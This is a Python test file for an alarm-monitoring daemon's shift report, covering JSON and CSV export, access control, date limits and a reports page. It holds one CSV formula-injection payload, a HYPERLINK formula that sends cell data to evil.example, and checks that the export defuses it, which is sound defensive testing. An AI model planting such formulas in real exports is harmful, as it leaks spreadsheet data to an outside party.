"""The shift handover report (``/api/reports/alarms`` as JSON and CSV, the ``/reports`` page with its charts) and
the guard's own shift on ``/alarms?state=resolved``."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import aiohttp
from conftest import Daemon, distinct, sample
from test_alarms import an_event

from vmond.store.models import Alarm
from vmond.web.reports import CSV_COLUMNS

HOSTILE_NOTE = 'Called "Jane", no answer,\nleft a message'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def a_shift(daemon: Daemon, guard: str) -> dict[str, int]:
    """Two alarms and a dismissal: guard1 raises and resolves one (a note, an outcome that looks like a formula),
    raises another and leaves it open; guard2 dismisses a third event."""
    front = await an_event(daemon)
    back = await an_event(daemon, "swann-nvr-human.eml", "camera-back@monitor.local")
    assert (await daemon.send(distinct(sample("hikvision-ipc-intrusion.eml"), 3)))["data"][0] == 250
    await daemon.wait_idle()
    third = [m.data["id"] for m in daemon.services.bus._history if m.type == "event.created"][-1]
    _, first = await daemon.api("POST", f"/api/events/{front}/alarm", guard)
    _, second = await daemon.api("POST", f"/api/events/{back}/alarm", guard)
    status, _ = await daemon.api("POST", f"/api/alarms/{first['id']}/notes", guard, json={"text": HOSTILE_NOTE})
    assert status == 201
    status, _ = await daemon.api("POST", f"/api/alarms/{first['id']}/resolve", guard,
                                 json={"code": "other", "resolution": FORMULA})
    assert status == 200
    await daemon.add_user("guard2", "guard")
    status, _ = await daemon.api("POST", f"/api/events/{third}/dismiss", await daemon.token("guard2"))
    assert status == 200
    await daemon.add_user("boss", "supervisor")
    return {"resolved": first["id"], "open": second["id"], "dismissed": third}


async def test_the_report_as_json(daemon: Daemon, guard: str) -> None:
    ids = await a_shift(daemon, guard)
    status, report = await daemon.api("GET", "/api/reports/alarms", await daemon.token("boss"))
    assert status == 200, report
    # Without from and to: the last 12 hours, an hour per bar.
    span = datetime.fromisoformat(report["to"]) - datetime.fromisoformat(report["from"])
    assert span == timedelta(hours=12) and len(report["per_hour"]) in (12, 13)
    assert report["totals"] == {"events": 3, "alarms": 2, "resolved": 1, "dismissed": 1,
                                "median_seconds_to_resolve": report["alarms"][0]["seconds_to_resolve"]}
    first, second = report["alarms"]  # oldest first, as a shift is read
    assert (first["id"], second["id"]) == (ids["resolved"], ids["open"])
    assert first["opened_by"]["username"] == first["acknowledged_by"]["username"] == "guard1"
    assert first["resolved_by"]["username"] == "guard1" and first["resolved_at"] and first["acknowledged_at"]
    assert first["resolution"] == {"code": "other", "label": "Other (see text)", "text": FORMULA}
    assert [(n["author"], n["text"]) for n in first["notes"]] == [("guard1", HOSTILE_NOTE)]
    assert first["steps"] == [] and first["event_type"] == "Intrusion Detection" and first["kind"] == "intrusion"
    assert 0 <= first["seconds_to_raise"] <= first["seconds_to_resolve"]
    assert second["state"] == "acknowledged" and second["resolution"] is None and second["seconds_to_resolve"] is None
    assert report["dismissed"] == [{"user": {"id": report["dismissed"][0]["user"]["id"], "username": "guard2"},
                                    "events": 1}]
    assert report["counts"]["accounts"] == [{"account": first["account"], "events": 3, "alarms": 2}]
    kinds = {row["kind"]: (row["events"], row["alarms"]) for row in report["counts"]["kinds"]}
    assert second["kind"] != "intrusion" and kinds == {"intrusion": (2, 1), second["kind"]: (1, 1)}
    assert sum(h["events"] for h in report["per_hour"]) == 3 and sum(h["alarms"] for h in report["per_hour"]) == 2
    handled = {row["bucket"]: row["alarms"] for row in report["time_to_handle"]}
    assert handled["< 1 min"] == 1 and handled["not resolved"] == 1 and sum(handled.values()) == 2
    assert report["site"] == {"id": "test-site", "name": "Test Site"}


async def test_the_report_as_csv(daemon: Daemon, guard: str) -> None:
    ids = await a_shift(daemon, guard)
    boss = await daemon.token("boss")
    async with aiohttp.ClientSession() as http, http.get(
            f"{daemon.url}/api/reports/alarms?format=csv", headers={"Authorization": f"Bearer {boss}"}) as response:
        assert response.status == 200 and response.content_type == "text/csv" and response.charset == "utf-8"
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="vmond-alarms-test-site-\d{8}T\d{4}-\d{8}T\d{4}\.csv"', disposition)
        raw = (await response.read()).decode("utf-8")
    assert raw.startswith(",".join(CSV_COLUMNS) + "\r\n") and raw.endswith("\r\n")
    # RFC 4180: the note's quotes doubled, the field with a comma and a line break quoted as a whole.
    assert re.search(r',"\S+ guard1: Called ""Jane"", no answer,\nleft a message",', raw)
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert [int(r["alarm_id"]) for r in rows] == [ids["resolved"], ids["open"]]
    first = rows[0]
    assert first["outcome_code"] == "other" and first["handled_by"] == first["resolved_by"] == "guard1"
    assert first["outcome_text"] == "'" + FORMULA  # a spreadsheet shows it as text, never runs it
    assert first["notes"].endswith("guard1: " + HOSTILE_NOTE) and first["account"] == "Test Customer"
    assert rows[1]["resolved_at"] == "" and rows[1]["state"] == "acknowledged"
    for row in rows:  # no cell of any row may start a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row


async def test_the_report_is_bounded_and_for_supervisors(daemon: Daemon, guard: str) -> None:
    await daemon.add_user("boss", "supervisor")
    boss = await daemon.token("boss")
    for query in ("from=2026-01-10&to=2026-01-01", "from=2026-01-01&to=2026-01-08",  # backwards; 8 whole days
                  "from=2026-01-01T00:00&to=2026-01-08T00:01", "from=yesterday", "to=2026-13-01",
                  "from=2026-01-01&to=2026-01-02&format=xlsx"):
        status, body = await daemon.api("GET", f"/api/reports/alarms?{query}", boss)
        assert status == 400 and body["error"], query
    status, body = await daemon.api("GET", "/api/reports/alarms?from=2026-01-01&to=2026-01-07", boss)
    assert status == 200 and len(body["per_hour"]) in (167, 168, 169)  # seven whole days (a DST change: ±1 h)
    assert body["alarms"] == [] and body["totals"]["events"] == 0
    status, body = await daemon.api("GET", "/api/reports/alarms?from=2026-01-01T08:00%2B01:00&to=2026-01-01T20:00Z",
                                    boss)
    assert status == 200 and datetime.fromisoformat(body["from"]) == datetime(2026, 1, 1, 7, tzinfo=UTC)
    assert len(body["per_hour"]) == 13
    status, _ = await daemon.api("GET", "/api/reports/alarms", guard)
    assert status == 403
    status, _ = await daemon.api("GET", "/api/reports/alarms", None)
    assert status == 401


async def test_the_report_page_draws_its_charts(daemon: Daemon, guard: str) -> None:
    from test_web import browser_session, log_in

    await a_shift(daemon, guard)
    async with browser_session() as http:
        await log_in(daemon, http, "boss")
        async with http.get(f"{daemon.url}/reports") as response:
            assert response.status == 200
            page = await response.text()
        assert page.count('<svg class="chart-svg"') == 2 and 'href="/reports"' in page
        assert "Events and alarms per hour" in page and "Time to handle" in page and "Download CSV" in page
        assert "guard2" in page and HOSTILE_NOTE.split("\n")[0].replace('"', "&#34;") in page
        async with http.get(f"{daemon.url}/reports?from=2026-01-01&to=2026-02-01") as response:
            assert response.status == 400 and "at most 7 days" in await response.text()
    async with browser_session() as http:
        await log_in(daemon, http, "guard1")
        async with http.get(f"{daemon.url}/reports") as response:
            assert response.status == 403
        async with http.get(f"{daemon.url}/alarms") as response:
            assert 'href="/reports"' not in await response.text()


async def test_a_guard_sees_the_alarms_they_resolved_this_shift(daemon: Daemon, guard: str) -> None:
    from test_web import browser_session, log_in

    await daemon.add_user("guard2", "guard")
    other = await daemon.token("guard2")
    mine, theirs, earlier = [
        (await daemon.api("POST", f"/api/events/{await an_event(daemon, name, camera)}/alarm", token))[1]["id"]
        for name, camera, token in (("hikvision-ipc-intrusion.eml", "camera-front@monitor.local", guard),
                                    ("swann-nvr-human.eml", "camera-back@monitor.local", other),
                                    ("swann-nvr-human.eml", "camera-front@monitor.local", guard))]
    for alarm_id, token in ((mine, guard), (theirs, other), (earlier, guard)):
        status, _ = await daemon.api("POST", f"/api/alarms/{alarm_id}/resolve", token, json={"code": "false_alarm"})
        assert status == 200

    def resolved_last_night() -> None:
        Alarm.update(resolved_at=datetime.now(UTC) - timedelta(hours=13)).where(Alarm.id == earlier).execute()

    await daemon.services.db.write(resolved_last_night)
    status, body = await daemon.api("GET", "/api/alarms?state=resolved", guard)
    assert status == 200 and [a["id"] for a in body["alarms"]] == [mine]
    status, body = await daemon.api("GET", "/api/alarms?state=resolved", other)
    assert status == 200 and [a["id"] for a in body["alarms"]] == [theirs]
    for query in ("state=all", "state=resolved&q=door", "state=resolved&from=2026-01-01"):
        status, _ = await daemon.api("GET", f"/api/alarms?{query}", guard)
        assert status == 403, query  # the rest of the history stays the supervisors'
    async with browser_session() as http:
        await log_in(daemon, http, "guard1")
        async with http.get(f"{daemon.url}/alarms?state=resolved") as response:
            assert response.status == 200
            page = await response.text()
        assert f'href="/alarms/{mine}"' in page and f'href="/alarms/{theirs}"' not in page
        # Only what a guard may use is offered: no "all", no search or dates.
        assert 'value="all"' not in page and 'name="q"' not in page and 'name="from"' not in page
        assert "Resolved by me" in page
